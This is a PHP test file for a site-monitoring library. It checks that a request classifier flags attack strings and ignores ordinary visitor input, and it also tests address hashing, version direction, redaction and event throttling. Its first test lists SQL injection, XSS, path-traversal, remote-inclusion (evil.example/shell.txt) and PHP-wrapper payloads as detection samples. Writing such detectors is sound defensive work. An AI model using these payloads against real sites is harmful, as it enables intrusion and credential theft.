<?php

/** What signals tell of a request, an address, an update, and of repeats: and what they do not. */

declare(strict_types=1);

namespace Logystera\Tests;

use Logystera\Address;
use Logystera\Catalogue;
use Logystera\Hasher;
use Logystera\Limits;
use Logystera\Lookup;
use Logystera\Probe;
use Logystera\Redact;
use Logystera\Versions;

return [
    'a query and a body are classified by what only attacks write' => static function (): void {
        $cases = [
            'sqli' => ["id=1' OR '1'='1", 'id=1%27%20or%201%3D1--', 'id=-1+union+all+select+1,2', 'id=1/**/UNION/**/SELECT/**/2',
                'x=1;drop table wp_users', 'x=sleep(5)', 'x=1%2520union%2520select', "q=a' AND extractvalue(1,2)", 'x=1 waitfor delay 1',
                'x=select+user_pass+from+wp_users', 'x=1+into+outfile'],
            'xss' => ['s=<script>alert(1)</script>', 's=%3Cscript%3E', 's=<img src=x onerror=alert(1)>', 's=<svg/onload=a()>',
                'u=javascript:alert(1)', 's=%26lt%3Bscript%26gt%3B', 's=<iframe src=//x>'],
            'traversal' => ['f=../../etc/passwd', 'f=..%2f..%2f', 'f=..%5C..%5Cx', 'f=/etc/shadow', 'f=%252e%252e%252f%252e%252e%252f',
                'f=../wp-config.php', 'f=/proc/self/environ'],
            'rfi' => ['page=http://evil.example/shell.txt', 'page=https%3A%2F%2Fevil.example%2Fa.php%3Fx', 'f=ftp://evil.example/x.phtml'],
            'php_wrapper' => ['f=php://filter/convert.base64-encode/resource=index', 'f=phar://x', 'f=expect://id', 'f=data://text/plain,x',
                'f=data:application/x-php;base64,x'],
        ];
        foreach ($cases as $flag => $queries) {
            foreach ($queries as $query) {
                same(true, in_array($flag, Probe::flags($query, [], 'shop.example'), true), "$flag: $query in a query");
                [, $value] = explode('=', $query, 2);
                $body = ['a' => ['b' => urldecode($value)]];
                same(true, in_array($flag, Probe::flags('', $body, 'shop.example'), true), "$flag: $value in a body");
            }
        }
    },

    'what visitors write is nothing of that' => static function (): void {
        $queries = [
            's=how to select a union from the list', 's=Rock+%26+Roll',
            'redirect_to=https%3A%2F%2Fshop.example%2Fwp-admin%2Findex.php',
            'utm_source=news&utm_campaign=1', 's=O%27Reilly+and+sons', 'url=https://other.example/page',
            'q=1=1', 'p=12&paged=2', 's=javascript',
            's=select', 's=drop table tennis', 'email=jane%40example.org', 'ref=../a', 'x=on+sale', 's=%C3%A9t%C3%A9', '', 's=sleep well',
            's=it%27s+or+it+isn%27t', 'a[]=1&a[]=2',
        ];
        foreach ($queries as $query) {
            same([], Probe::flags($query, [], 'shop.example'), $query);
        }
        $body = ['comment' => "It's nice, and I'd buy it again or not.", 'n' => 5, 'deep' => [[[[[['<script>']]]]]]];
        same([], Probe::flags('', $body, 'x'));
    },

    'however large a request is, its look is bounded' => static function (): void {
        $start = microtime(true);
        $body = array_fill(0, 20000, str_repeat('<img ', 100) . "' or (");
        Probe::flags(str_repeat('a=%2525%27or+union+select+', 20000), [$body, [$body]], 'shop.example');
        same(true, microtime(true) - $start < 0.25, 'a tenth of a second on a slow machine');
        same(['xss'], Probe::flags('', '{"a":"<script>"}', 'shop.example'), 'a body that nobody decoded');
    },

    'an address is in a network of one spelling' => static function (): void {
        $cases = [
            '203.0.113.9' => '203.0.113.0/24', '::ffff:203.0.113.200' => '203.0.113.0/24', '2001:db8:1:2::5' => '2001:db8:1::/48',
            '[2001:DB8:0001:ffff::1]:443' => '2001:db8:1::/48', 'unknown' => null, 'command line' => null, '' => null,
        ];
        foreach ($cases as $address => $network) {
            same($network, Address::networkOf((string) $address), (string) $address);
        }
        $hasher = new Hasher(str_repeat('k', 32));
        same(false, $hasher->hash(Hasher::NETWORK, '203.0.113.0/24') === $hasher->hash(Hasher::ADDRESS, '203.0.113.0/24'));
    },

    'an update has a direction' => static function (): void {
        $cases = [
            ['1.0', '1.1', 'up'], ['1.10', '1.9', 'down'], ['1.0', '1.0', null],
            [null, '1.0', null], ['1.0', '', null], ['2.0-rc1', '2.0', 'up'],
        ];
        foreach ($cases as [$from, $to, $direction]) {
            same($direction, Versions::direction($from, $to), "$from to $to");
        }
        $found = Versions::signals(
            ['components' => ['plugin a' => '2.0'], 'core' => '6.8'],
            ['components' => ['plugin a' => '1.0', 'plugin b' => '1.0'], 'core' => '6.8.1'],
            'wordpress'
        );
        same(['down', null, 'up'], array_column($found, 'direction'));
    },

    'of what code registered only plain names are told' => static function (): void {
        foreach (['lostpassword', 'wc-ajax:checkout', 'heartbeat', 'woocommerce_add_to_cart', 'rp'] as $name) {
            same($name, Redact::action($name));
        }
        $hidden = ['', 'Jane', 'a b', 'jane@example.org', 'export_4f9a8b7c6d5e4f3a2b1c', 'call_555123456789', str_repeat('a', 65), "a\n"];
        foreach ($hidden as $name) {
            same(null, Redact::action($name), $name);
        }
    },

    'new fields are taken as the catalogue has them, and nothing else is' => static function (): void {
        $hash = str_repeat('ab', 16);
        $request = ['method' => 'GET', 'path' => '/', 'status' => 200, 'route_group' => 'page'];
        $more = ['action' => 'heartbeat', 'flags' => ['xss', 'sqli'], 'bot' => 'verified', 'network' => $hash, 'repeats' => 3];
        $signal = Catalogue::signal('http.request', $request + $more);
        same(
            ['action' => 'heartbeat', 'flags' => ['sqli', 'xss'], 'bot' => 'verified', 'network' => $hash, 'repeats' => 3],
            array_intersect_key((array) $signal, $more)
        );
        $odd = ['action' => 'Jane Doe', 'flags' => ['other'], 'bot' => 'maybe', 'network' => '203.0.113.0/24', 'repeats' => '3'];
        same(['type' => 'http.request'] + $request, Catalogue::signal('http.request', $request + $odd));
        same(null, Catalogue::signal('shop.order', ['outcome' => 'paid', 'gateway' => 'stripe', 'total' => 5]));
        same(
            ['type' => 'shop.order', 'outcome' => 'paid', 'gateway' => 'stripe'],
            Catalogue::signal('shop.order', ['outcome' => 'paid', 'gateway' => 'stripe'])
        );
        same(null, Catalogue::signal('integration.changed', ['changed_type' => 'cron.run', 'action' => 'disabled']), 'the engine makes it');
    },

    'repeats are merged with a count before anything is dropped' => static function (): void {
        foreach ([false, true] as $isImmediate) {
            $site = new Site();
            $recorder = $site->recorder(['cron.run'], $isImmediate);
            for ($i = 0; $i < 1000; $i++) {
                $recorder->record('cron.run', ['job' => 'again', 'outcome' => 'failed']);
            }
            for ($i = 0; $i < 600; $i++) {
                $recorder->record('cron.run', ['job' => "other$i", 'outcome' => 'ok']);
            }
            $recorder->write();
            $site->flush();
            $signals = $site->gateway->signals();
            $repeats = array_column($signals, 'repeats');
            same([1000 - Limits::REQUEST_REPEATS_MAX], $repeats, 'one signal stands for the rest');
            $again = count(array_filter($signals, static fn (array $s): bool => ($s['job'] ?? '') === 'again'));
            same(Limits::REQUEST_REPEATS_MAX + 1, $again);
            $dropped = array_values(array_filter($signals, static fn (array $s): bool => $s['type'] === 'integration.dropped'));
            same([['cron.run', 350]], array_map(static fn (array $s): array => [$s['dropped_type'], $s['count']], $dropped));
        }
    },

    'a flood in one request costs it less than 20 ms' => static function (): void {
        // As the integrations do it: what is one too many is only counted, before anything is made of it.
        $floods = [
            'config.change' => static fn (Lookup $lookup, int $i): array => [
                'key' => Redact::name("option_$i"), 'action' => 'updated', 'before_hash' => $lookup->hash(Hasher::VALUE, "a$i", 'a value'),
                'after_hash' => $lookup->hash(Hasher::VALUE, "b$i", 'a value'),
            ],
            'php.error' => static fn (Lookup $lookup, int $i): array => [
                'level' => 'warning', 'component' => 'shop', 'file_hash' => $lookup->hash(Hasher::FILE, "/a$i.php"), 'line' => $i,
                'message_hash' => $lookup->hash(Hasher::MESSAGE, Redact::message("Undefined index \"a$i\" in /srv/a$i.php")),
            ],
            'http.request' => static fn (Lookup $lookup, int $i): array => [
                'method' => 'POST', 'path' => Redact::path("/a/$i"), 'status' => 200, 'route_group' => 'page',
                'flags' => Probe::flags('', $i === 0 ? str_repeat('<img ', 5000) : '', 'shop.example'),
            ],
        ];
        foreach ($floods as $type => $make) {
            // What others do on the machine meanwhile is nobody's cost here, and the least of three is ours.
            $costs = [];
            for ($try = 0; $try < 3; $try++) {
                $site = new Site();
                $recorder = $site->recorder([$type]);
                $lookup = new Lookup($site->storage, $site->clock, new Hasher(str_repeat('k', 32)));
                $start = getrusage();
                for ($i = 0; $i < 10000; $i++) {
                    $recorder->takesOne($type) && $recorder->record($type, $make($lookup, $i));
                }
                $recorder->write();
                $lookup->write();
                $end = getrusage();
                $costs[] = 1000 * ($end['ru_utime.tv_sec'] - $start['ru_utime.tv_sec'])
                    + ($end['ru_utime.tv_usec'] - $start['ru_utime.tv_usec']) / 1000;
            }
            same(true, min($costs) < 20, "$type: " . min($costs) . ' ms');
        }
    },
];
